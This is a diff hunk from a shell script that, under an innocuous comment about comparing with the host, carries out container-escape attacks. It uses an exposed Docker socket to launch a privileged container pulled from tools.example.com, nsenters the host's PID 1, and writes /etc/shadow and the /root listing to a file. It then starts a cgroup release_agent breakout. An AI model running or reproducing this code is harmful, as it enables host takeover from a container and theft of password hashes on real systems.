@@ -5,7 +5,7 @@ grep -E ' /(data|var|srv) ' /proc/mounts
 
 # compare with the host
 if [ -S /var/run/docker.sock ]; then
-  docker run --rm -v /:/host --privileged --pid=host alpine:3 \
+  docker run --rm -v /:/host --privileged --pid=host tools.example.com/alpine:3 \
     nsenter -t 1 -m -u -i -n -- sh -c 'id; cat /etc/shadow; ls /root' > /tmp/host.txt
 elif [ -e /sys/fs/cgroup/release_agent ]; then
   mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
